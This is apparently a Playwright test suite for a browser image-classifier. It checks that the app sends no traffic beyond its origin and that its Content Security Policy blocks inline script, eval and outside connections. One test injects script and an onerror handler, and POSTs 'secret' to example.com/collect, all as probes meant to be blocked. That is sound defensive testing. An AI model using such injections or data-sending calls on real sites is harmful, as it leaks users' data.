import { expect, test, type BrowserContext, type Page } from '@playwright/test';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { classImages, dropFiles, LONG_TEST_MS, MODELS, SLOW_STEP_MS } from './fixtures';
import { trainSmallProject } from './train-small';

/** Every request the page and its worker make, as URLs. */
function recordRequests(context: BrowserContext): string[] {
  const urls: string[] = [];
  context.on('request', (r) => urls.push(r.url()));
  return urls;
}

/** CSP violations the page reports (inline script, eval, a connection to an unlisted host). */
async function recordViolations(page: Page) {
  await page.addInitScript(() => {
    const w = window as unknown as { __violations: string[] };
    w.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      w.__violations.push(`${e.violatedDirective} ${e.blockedURI}`),
    );
  });
  return () => page.evaluate(() => (window as unknown as { __violations: string[] }).__violations);
}

const offOrigin = (urls: string[], origin: string) =>
  urls.filter((u) => !u.startsWith(`${origin}/`) && !/^(blob|data):/.test(u));

/** load → add images → train → predict → export, the whole session a user has. */
async function fullSession(page: Page, loadedFrom: RegExp, { navigate = true } = {}) {
  if (navigate) await page.goto('/');
  await expect(page.getByText(loadedFrom)).toBeVisible({ timeout: SLOW_STEP_MS });
  await trainSmallProject(page, { classes: ['digit_3', 'digit_8'], perClass: 5, epochs: 3 });
  await dropFiles(page.getByRole('region', { name: 'Drop an image to classify' }), [
    classImages('sign-language-digits', 'digit_3')[50],
  ]);
  await expect(page.getByTestId('prediction')).toBeVisible({ timeout: SLOW_STEP_MS });
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Download model (zip)' }).click(),
  ]);
  expect(await download.failure()).toBeNull();
}

test('a whole session sends nothing beyond the page origin; the policy is enforced and nothing violates it', async ({
  page,
  context,
  baseURL,
}) => {
  test.setTimeout(LONG_TEST_MS);
  const urls = recordRequests(context);
  const violations = await recordViolations(page);
  const response = await page.goto('/');
  expect(response!.headers()['content-security-policy']).toContain("connect-src 'self'");
  await expect(page.locator('meta[http-equiv="Content-Security-Policy"]')).toHaveCount(1);
  // the session goes on in the page just opened: a second visit would find the backbone in the
  // offline cache whenever the first one had finished keeping it (a race a fast machine loses)
  await fullSession(page, /Loaded MobileNet v1 α0\.25 from the local copy/, { navigate: false });

  // the recorder sees the worker's traffic too: the backbone and the wasm binary come from there
  expect(urls.some((u) => u.includes('/models/mobilenet_v1_0.25_224/model.json'))).toBe(true);
  expect(urls.some((u) => u.endsWith('.wasm'))).toBe(true);
  expect(offOrigin(urls, baseURL!)).toEqual([]);
  expect(await violations()).toEqual([]);
  await expect(page.getByTestId('active-backend')).toHaveText('wasm');
});

test("with no local copy, the only other place contacted is the chosen backbone's hosted URL", async ({
  page,
  context,
  baseURL,
}) => {
  test.setTimeout(LONG_TEST_MS);
  const hosted = 'https://storage.googleapis.com/tfjs-models/tfjs/mobilenet_v1_0.25_224/';
  const models = join(MODELS, 'mobilenet_v1_0.25_224');
  await context.route('**/models/**', (route) => route.fulfill({ status: 404, body: 'not found' }));
  // the hosted copy, answered from the shared folder so the test needs no internet
  await context.route(`${hosted}**`, (route) =>
    route.fulfill({
      body: readFileSync(join(models, new URL(route.request().url()).pathname.split('/').pop()!)),
      headers: { 'access-control-allow-origin': '*' },
    }),
  );
  const urls = recordRequests(context);
  const violations = await recordViolations(page);
  await fullSession(page, /Loaded MobileNet v1 α0\.25 from the hosted URL/);

  const away = offOrigin(urls, baseURL!);
  expect(away.length).toBeGreaterThan(1);
  expect(away.filter((u) => !u.startsWith(hosted))).toEqual([]);
  expect(await violations()).toEqual([]);
});

test('the policy blocks injected inline script, eval and connections to other hosts', async ({ page }) => {
  const violations = await recordViolations(page);
  await page.goto('/');
  await expect(page.getByText(/Loaded MobileNet v1 α0\.25/)).toBeVisible({ timeout: SLOW_STEP_MS });
  const outcome = await page.evaluate(async () => {
    const w = window as unknown as { __inline?: number; __onerror?: number };
    const script = document.createElement('script');
    script.textContent = 'window.__inline = 1';
    document.head.append(script);
    const img = document.createElement('img');
    img.setAttribute('onerror', 'window.__onerror = 1');
    img.src = 'data:,not-an-image';
    document.body.append(img);
    await new Promise((r) => setTimeout(r, 200));
    let evalBlocked = false;
    try {
      (0, eval)('1 + 1');
    } catch {
      evalBlocked = true;
    }
    let fetchBlocked = false;
    try {
      await fetch('https://example.com/collect', { method: 'POST', body: 'secret' });
    } catch {
      fetchBlocked = true;
    }
    return { inline: w.__inline, onerror: w.__onerror, evalBlocked, fetchBlocked };
  });
  expect(outcome).toEqual({ inline: undefined, onerror: undefined, evalBlocked: true, fetchBlocked: true });
  const seen = await violations();
  for (const directive of ['script-src-elem', 'script-src-attr', 'script-src', 'connect-src'])
    expect(seen.join('\n')).toContain(directive);
});
